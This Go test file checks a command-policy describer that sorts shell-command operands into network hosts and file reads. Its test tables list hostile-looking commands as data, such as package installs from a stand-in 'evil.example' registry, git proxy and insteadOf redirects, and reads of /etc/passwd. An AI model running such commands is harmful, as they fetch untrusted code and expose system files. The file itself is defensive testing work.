package policy

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// operands renders what Describe says of a command: "net x", "read+ x", and what
// may be a path of an unknown one as "? x".
func operands(command string) (out []string) {
	u := describe(words(command))
	for _, o := range u.Operands {
		s := o.Kind.String()
		if o.Tree {
			s += "+"
		}
		if o.Tree && o.Part != "" {
			s += "(" + o.Part + ")"
		}
		text := o.Word.Text
		if o.Word.Dynamic {
			text += "…"
		}
		out = append(out, s+" "+text)
	}
	if !u.Known {
		for _, w := range suspects(words(command)) {
			out = append(out, "? "+w.Text)
		}
	}
	return out
}

func TestURLsOfProgramsThatMayConnectAreHosts(t *testing.T) {
	t.Parallel()
	for command, want := range map[string]string{
		"npm ci --registry https://evil.example":              "net https://evil.example",
		"npm ci --registry=https://evil.example":              "net https://evil.example",
		"npm ci https://evil.example/x.tgz":                   "net https://evil.example/x.tgz",
		"npm view x --registry=https://evil.example":          "net https://evil.example",
		"npm ci --registry evil.example":                      "net evil.example",
		"npm ci --registry=$R…":                               "net $R…",
		"npm i git@evil.example:a/b":                          "net git@evil.example:a/b",
		"npm i x@https://evil.example/x.tgz":                  "net https://evil.example/x.tgz",
		"npm i github:evil/x":                                 "net https://github.com/",
		"npm ci --registry=https:evil.example":                "net …",
		"pip install --index-url https://evil.example x":      "net https://evil.example",
		"pip install -ihttps://evil.example x":                "net https://evil.example",
		"pip install --proxy evil.example:3128 x":             "net evil.example:3128",
		"pip install git+https://evil.example/x":              "net git+https://evil.example/x",
		"cargo install --index https://evil.example/i x":      "net https://evil.example/i",
		"./fetch https://a.example,https://b.example":         "net https://a.example; net https://b.example",
		"git -c url.https://evil.example/.insteadOf=x fetch":  "net https://evil.example/.insteadOf=x",
		"git -c http.proxy=https://evil.example log":          "net https://evil.example",
		"./fetch https://evil.example":                        "net https://evil.example",
		"psql postgres://db.example/x":                        "net postgres://db.example/x",
		"tool file:///etc/passwd":                             "read /etc/passwd",
		"docker build --build-arg U=https://evil.example/x .": "net https://evil.example/x",
	} {
		if got := strings.Join(only(operands(command), "net", "read /etc"), "; "); got != want {
			t.Errorf("%s: %q, want %q", command, got, want)
		}
	}
}

func only(list []string, kinds ...string) (out []string) {
	for _, s := range list {
		for _, kind := range kinds {
			if strings.HasPrefix(s, kind) {
				out = append(out, s)
			}
		}
	}
	return out
}

func TestURLsThatAreTextAreNoHosts(t *testing.T) {
	t.Parallel()
	for _, argv := range [][]string{
		{"git", "commit", "-m", "see https://example.org"},
		{"git", "commit", "-m", "https://example.org"},
		{"git", "tag", "-m", "https://example.org", "v1"},
		{"git", "log", "--grep=https://example.org"},
		{"git", "grep", "https://example.org"},
		{"echo", "https://example.org"},
		{"printf", "%s", "https://example.org"},
		{"grep", "-rn", "https://example.org", "."},
		{"rg", "https://"},
		{"sed", "-i", "s|http://a|https://b|", "x"},
		{"jq", "-n", "--arg", "u", "https://example.org", "$u"},
		{"test", "$U", "=", "https://example.org"},
		{"gh", "pr", "create", "--body", "Closes https://example.org/1"},
		{"npm", "version", "-m", "see https://example.org", "patch"},
		{"npm", "i", "lodash@npm:lodash-es"},
		{"npm", "i", "@scope/x@1.2.3"},
		{"cargo", "test", "a::b"},
		{"pytest", "a.py::TestX::test_y"},
		{"go", "test", "-run", "TestA/b:c", "./..."},
		{"docker", "run", "-p", "8080:80", "nginx:1"},
		{"rsync", "-a", "a/", "b/"},
	} {
		var w []Word
		for _, text := range argv {
			w = append(w, Word{Text: text})
		}
		for _, o := range describe(w).Operands {
			if o.Kind == Net {
				t.Errorf("%q: contacts %q", argv, o.Word.Text)
			}
		}
	}
}

func TestSubcommandsAreNoPaths(t *testing.T) {
	t.Parallel()
	for command, want := range map[string]string{
		"npm ci":                             "",
		"npm test":                           "",
		"npm run build":                      "",
		"npm run build -- dist/x":            "read dist/x",
		"npm --loglevel silent run test":     "",
		"go build ./...":                     "read ./...",
		"go test ./... build":                "read ./...; read build",
		"go mod tidy":                        "",
		"cargo build":                        "",
		"docker build .":                     "read .",
		"docker compose build":               "",
		"make generate test":                 "",
		"make out/generate":                  "read out/generate",
		"npx prisma generate":                "",
		"npx -y prisma@5 migrate dev":        "",
		"npx rimraf build":                   "? build",
		"npx eslint build":                   "read build",
		"kubectl get secrets":                "",
		"gh release create v1.2 build/x":     "read v1.2; read build/x",
		"python3 -m build x":                 "read x",
		"pytest test":                        "read test",
		"./gradlew build test":               "",
		"./scripts/build.sh test":            "? test",
		"rimraf build":                       "? build",
		"npm ci https://x.example/a.tgz":     "",
		"npm ci https://../../etc/passwd":    "read https://../../etc/passwd",
		"tool https://x.example/a --b=src/c": "? --b=src/c",
	} {
		got := only(operands(command), "read", "?")
		want := strings.FieldsFunc(want, func(r rune) bool { return r == ';' })
		for i := range want {
			want[i] = strings.TrimSpace(want[i])
		}
		if diff := cmp.Diff(strings.Join(want, "; "), strings.Join(got, "; ")); diff != "" {
			t.Errorf("%s: %s", command, diff)
		}
	}
}
